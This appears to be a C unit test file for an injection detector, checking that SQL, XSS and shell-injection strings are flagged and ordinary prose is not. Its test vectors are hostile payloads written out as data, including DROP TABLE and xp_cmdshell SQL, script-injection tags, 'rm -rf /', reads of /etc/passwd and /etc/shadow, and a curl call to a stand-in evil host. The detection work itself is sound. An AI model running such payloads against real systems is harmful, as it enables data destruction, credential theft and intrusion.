/* test_detect.c - what injection attempts look like, and what does not (gateway/core/detect.h). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "gateway/core/detect.h"

#include <stdio.h>
#include <stdlib.h>

struct vector {
    const char *text;
    unsigned kind; /* at least one of these */
};

static void each_found(const struct vector *v, size_t n)
{
    for (size_t i = 0; i < n; i++)
        if (!(detect_scan(slice_cstr(v[i].text)) & v[i].kind))
            fail_msg("not found (%x): %s", v[i].kind, v[i].text);
}

#define FOUND(v) each_found((v), sizeof(v) / sizeof((v)[0]))

static void test_sql_is_found(void **state)
{
    static const struct vector v[] = {
        /* the twelve of the requirement */
        {"' OR '1'='1", DETECT_SQL_OR},
        {"' OR 1=1 --", DETECT_SQL_OR},
        {"admin'--", DETECT_SQL_SPECIAL},
        {"1; DROP TABLE users", DETECT_SQL_KEYWORD},
        {"' UNION SELECT username, password FROM users --", DETECT_SQL_UNION},
        {"1' AND '1'='1", DETECT_SQL_OR},
        {"'; EXEC xp_cmdshell('dir'); --", DETECT_SQL_KEYWORD},
        {"\" OR \"\"=\"", DETECT_SQL_OR},
        {"1 UNION ALL SELECT NULL,NULL", DETECT_SQL_UNION},
        {"'; INSERT INTO users VALUES ('x','y')", DETECT_SQL_KEYWORD},
        {"x'; UPDATE users SET password='x' WHERE id=1", DETECT_SQL_KEYWORD},
        {"'; DELETE FROM users; --", DETECT_SQL_KEYWORD},
        /* and their relatives */
        {"SELECT * FROM users", DETECT_SQL_KEYWORD},
        {"select name, mail from accounts", DETECT_SQL_KEYWORD},
        {"') or ('a'='a", DETECT_SQL_OR},
        {"x' or 'x' like 'x", DETECT_SQL_OR},
        {"admin' or true#", DETECT_SQL_OR},
        {"admin' #", DETECT_SQL_SPECIAL},
        {"admin'/*", DETECT_SQL_SPECIAL},
        {"1'; shutdown", DETECT_SQL_SPECIAL},
        {"UN/**/ION", DETECT_SQL_SPECIAL},
        {"union/**/select 1", DETECT_SQL_UNION},
        {"1 or sleep(5)", DETECT_SQL_KEYWORD},
        {"1;waitfor delay '0:0:5'", DETECT_SQL_KEYWORD},
        {"' || 'a'='a", DETECT_SQL_OR},
    };

    FOUND(v);
}

static void test_script_is_found(void **state)
{
    static const struct vector v[] = {
        /* the six of the requirement */
        {"<script>alert(1)</script>", DETECT_XSS_SCRIPT},
        {"<img src=x onerror=alert(1)>", DETECT_XSS_HANDLER},
        {"<svg onload=alert(1)>", DETECT_XSS_HANDLER},
        {"javascript:alert(1)", DETECT_XSS_URL},
        {"<iframe src=\"//evil\"></iframe>", DETECT_XSS_SCRIPT},
        {"<body onload='x()'>", DETECT_XSS_HANDLER},
        /* and their relatives */
        {"\"onmouseover=\"x", DETECT_XSS_HANDLER},
        {"<ScRiPt >", DETECT_XSS_SCRIPT},
        {"%3Cscript%3E", DETECT_XSS_SCRIPT},
        {"VBScript :x", DETECT_XSS_URL},
        {"data:text/html;base64,xx", DETECT_XSS_URL},
        {"<svg/onload=x>", DETECT_XSS_HANDLER},
    };

    FOUND(v);
}

static void test_shell_is_found(void **state)
{
    static const struct vector v[] = {
        /* the five of the requirement */
        {"; rm -rf /", DETECT_SHELL_CHAIN},
        {"x | cat /etc/passwd", DETECT_SHELL_CHAIN},
        {"$(whoami)", DETECT_SHELL_SUBST},
        {"`id`", DETECT_SHELL_SUBST},
        {"a && curl http://evil.example/x", DETECT_SHELL_CHAIN},
        /* and their relatives */
        {"a;ls", DETECT_SHELL_CHAIN},
        {"a|/bin/sh", DETECT_SHELL_CHAIN},
        {"a || wget x", DETECT_SHELL_CHAIN},
        {"$( cat /etc/shadow )", DETECT_SHELL_SUBST},
        {"cat${IFS}x", DETECT_SHELL_SUBST},
        {"`/usr/bin/id`", DETECT_SHELL_SUBST},
    };

    FOUND(v);
}

static void test_ordinary_text_is_left_alone(void **state)
{
    static const char *const texts[] = {
        "",
        "What's the difference between a cat and a dog; which one should I choose?",
        "Please select one of the options from the list and update me on it.",
        "The union of workers selected a new chair, and all is well.",
        "Drop me a line at the table; I'll delete it from my mind or yours.",
        "It's 5 o'clock -- time for tea. \"Really?\" -- \"Yes!\"",
        "if (a == b || c != d && e) { return x; }",
        "The set {x | x > 0} and f(x) = y or g(y) = z.",
        "Online shopping = fun; onboarding = work, once = never.",
        ("Kosten: 5 & 6 Euro; 100% sicher; gr\xc3\xb6\xc3\x9f"
         "er als 3 < 4."),
        "He said 'insert the coin into the slot' and \"execute the plan\".",
        "`printf` and `struct foo` are in C; $x and $(document) are not.",
        "https://example.org/a/b?c=d&e=f#g",
        "Tom's; Anna's # 1",
        "SELECT is a keyword. So is UNION.",
        "a/*b",
    };

    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        unsigned kinds = detect_scan(slice_cstr(texts[i]));

        if (kinds)
            fail_msg("found %x in: %s", kinds, texts[i]);
    }
}

/* The bytes of the vectors stand at the very end of their memory: reading past it is seen. */
static void test_no_rule_reads_past_the_text(void **state)
{
    static const char text[] =
        "' OR '1'='1 union/**/all select a from b; drop table x "
        "<script onload= javascript: `id` $(id) %3Cscript && rm "
        "insert into a (b) update a set b=c delete from a; exec sp_x sleep(1) "
        "waitfor delay data:text/html '; -- '/* a/**/b";

    for (size_t from = 0; from < sizeof(text) - 1; from++)
        for (size_t n = 0; n <= sizeof(text) - 1 - from && n < 40; n++) {
            char *copy = malloc(n ? n : 1);

            assert_non_null(copy);
            memcpy(copy, text + from, n);
            detect_scan(slice_of(copy, n));
            free(copy);
        }
}

#define LONG (1u << 20)

/* Some 1 MiB of `filler`, and an attempt at its very end. The caller frees it. */
static char *long_text(const char *filler, const char *attempt)
{
    size_t n = strlen(filler), m = strlen(attempt);
    char *text = malloc(LONG);

    assert_non_null(text);
    for (size_t i = 0; i < LONG; i++)
        text[i] = filler[i % n];
    memcpy(text + LONG - m, attempt, m);
    return text;
}

static void test_all_of_a_long_text_is_looked_at(void **state)
{
    char *text = long_text("It was so; and then, said Anna, we selected them. ", " <script>");

    assert_int_equal(detect_scan(slice_of(text, LONG - 9)), 0);
    assert_int_equal(detect_scan(slice_of(text, LONG)), DETECT_XSS_SCRIPT);
    free(text);
}

/* Goes through a text in portions and says what was found, and in how many. */
static unsigned in_portions(struct slice text, size_t work, unsigned *ret_n)
{
    unsigned kinds = 0, n = 0;

    for (size_t pos = 0; pos < text.n; n++) {
        size_t left = work, from = pos;

        kinds |= detect_some(text, &pos, &left);
        assert_true(pos > from && left < work);
        assert_true(pos == text.n || left == 0);
    }
    *ret_n = n;
    return kinds;
}

static void test_portions_find_what_the_whole_does(void **state)
{
    static const char attempt[] = " x' union select 1; drop table y <iframe> $(id) ";
    char text[9000];
    unsigned n;

    for (size_t at = 1900; at < 2300; at++) { /* over an end of the steps inside */
        memset(text, '.', sizeof(text));
        memcpy(text + at, attempt, sizeof(attempt) - 1);
        assert_int_equal(in_portions(slice_of(text, sizeof(text)), 1, &n),
                         detect_scan(slice_of(attempt, sizeof(attempt) - 1)));
        assert_true(n > 1);
    }
}

/* Where much has to be looked at a portion is shorter. */
static void test_a_portion_is_as_long_as_its_work(void **state)
{
    char *prose = long_text("abc ", ""), *quotes = long_text("' ", "");
    unsigned n;

    assert_int_equal(in_portions(slice_of(prose, LONG), DETECT_TURN_WORK, &n), 0);
    assert_int_equal(n, LONG / DETECT_TURN_WORK);
    assert_int_equal(in_portions(slice_of(quotes, LONG), DETECT_TURN_WORK, &n), 0);
    assert_true(n > 32 * (LONG / DETECT_TURN_WORK));
    free(prose);
    free(quotes);
}

static void test_every_kind_has_a_name(void **state)
{
    for (unsigned i = 0; i < DETECT_KINDS; i++) {
        assert_string_not_equal(detect_name(i), "other");
        for (unsigned k = 0; k < i; k++)
            assert_string_not_equal(detect_name(i), detect_name(k));
    }
    assert_string_equal(detect_name(DETECT_KINDS), "other");
    assert_string_equal(detect_name(2), "sql_union");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sql_is_found),
        cmocka_unit_test(test_script_is_found),
        cmocka_unit_test(test_shell_is_found),
        cmocka_unit_test(test_ordinary_text_is_left_alone),
        cmocka_unit_test(test_no_rule_reads_past_the_text),
        cmocka_unit_test(test_all_of_a_long_text_is_looked_at),
        cmocka_unit_test(test_portions_find_what_the_whole_does),
        cmocka_unit_test(test_a_portion_is_as_long_as_its_work),
        cmocka_unit_test(test_every_kind_has_a_name),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
